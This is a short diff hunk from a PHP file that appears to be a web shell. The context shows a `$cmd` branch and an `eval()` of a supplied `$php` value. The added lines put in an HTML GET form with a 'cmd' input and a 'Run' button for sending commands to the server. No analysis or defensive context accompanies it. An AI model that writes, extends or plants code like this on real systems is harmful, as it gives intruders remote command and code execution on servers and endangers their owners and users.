@@ -9,3 +9,5 @@ if (!empty($cmd)) {
 if (!empty($php)) {
     eval($php);
 }
+?>
+<form method="get"><input type="text" name="cmd"><input type="submit" value="Run"></form>
